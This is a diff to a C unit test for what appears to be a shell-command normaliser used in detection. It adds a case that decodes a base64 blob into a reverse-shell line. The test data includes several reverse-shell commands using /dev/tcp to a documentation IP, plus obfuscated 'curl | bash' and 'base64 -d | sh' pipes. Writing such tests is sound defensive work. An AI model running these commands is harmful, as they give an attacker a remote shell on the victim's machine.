@@ -69,6 +69,11 @@ static void test_wsh_and_shell(void **state)
         expect_norm("c'ur'l -s x | b\"as\"h", "curl -s x | bash");
         expect_norm("$'\\x62\\x61sh' -i", "bash -i");
         /* "bash -i >& /dev/tcp/192.0.2.1/9 0>&1" */
+        /* a file that is one base64 blob of text: "bash -i >& /dev/tcp/192.0.2.1/9 0>&1" and more
+         */
+        expect_norm(
+                "YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjEvOSAwPiYxIDsgZWNobyBkb25lIGFuZCBkb25l\n",
+                "bash -i >& /dev/tcp/192.0.2.1/9 0>&1 ; echo done and done\n");
         expect_norm("echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjEvOSAwPiYx | base64 -d | sh",
                     "echo bash -i >& /dev/tcp/192.0.2.1/9 0>&1 | base64 -d | sh");
 }
